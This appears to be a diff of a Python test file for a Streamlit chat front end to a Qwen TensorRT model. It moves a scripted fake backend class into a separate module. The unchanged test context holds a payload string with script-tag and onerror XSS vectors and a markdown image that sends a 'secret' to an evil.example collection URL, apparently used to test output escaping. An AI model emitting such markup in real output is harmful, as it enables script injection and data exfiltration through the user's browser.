@@ -11,7 +11,7 @@ import streamlit as st
 from streamlit.testing.v1 import AppTest
 
 from qwen_trt import serving
-from qwen_trt.backends.base import Backend, BackendInfo
+from fakes import ScriptedBackend
 from qwen_trt.errors import EngineMismatchError
 from qwen_trt.params import SamplingParams
 from qwen_trt.serving import EngineService
@@ -22,42 +22,6 @@ TIMEOUT = 30
 
 PAYLOAD = ("<script>alert('xss')</script> <b>bold</b> <img src=x onerror=alert(1)> "
            "![leak](https://evil.example/collect?d=secret)")
-
-
-class ScriptedBackend(Backend):
-    """Replies with the token ids of a chosen text, then <|im_end|>."""
-
-    def __init__(self, tokenizer, text: str, max_seq_len: int = 4096) -> None:
-        super().__init__()
-        self._tok = tokenizer
-        self.text = text
-        self.gate = threading.Event()
-        self.gate.set()
-        self.prompts: list[list[int]] = []
-        self._info = BackendInfo("scripted", "fake-model", "cpu", "float32",
-                                 max_seq_len - 1, max_seq_len)
-
-    @property
-    def info(self):
-        return self._info
-
-    @property
-    def tokenizer(self):
-        return self._tok
-
-    def stream(self, prompt_ids, params):
-        cancel = self._begin()
-        self.prompts.append(list(prompt_ids))
-        ids = self._tok.encode(self.text, add_special_tokens=False)[:params.max_new_tokens]
-        for tid in ids:
-            while not self.gate.wait(0.005):
-                if cancel.is_set():
-                    return
-            yield tid
-            if cancel.is_set():
-                return
-        if len(ids) < params.max_new_tokens:
-            yield self._tok.convert_tokens_to_ids("<|im_end|>")
 
 
 @pytest.fixture(autouse=True)
